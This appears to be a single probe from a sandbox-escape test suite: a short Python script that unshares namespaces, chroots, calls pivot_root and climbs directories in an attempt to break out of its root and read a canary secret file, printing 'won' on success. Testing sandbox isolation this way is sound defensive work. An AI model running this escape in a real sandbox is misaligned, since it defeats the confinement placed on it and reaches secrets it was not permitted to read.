# family: kernel
# tries: to leave its root directory by another one
import ctypes
import os

libc = ctypes.CDLL(None)
libc.unshare(0x10000000 | 0x20000)
try:
    os.makedirs("/tmp/new/old", exist_ok=True)
    os.chroot("/tmp/new")
except OSError:
    pass
libc.pivot_root(b"/tmp/new", b"/tmp/new/old")
for _ in range(100):
    try:
        os.chdir("..")
    except OSError:
        break
try:
    os.chroot(".")
except OSError:
    pass
with open("@CANARY@/secret") as file:
    print("won" if file.read() else "")
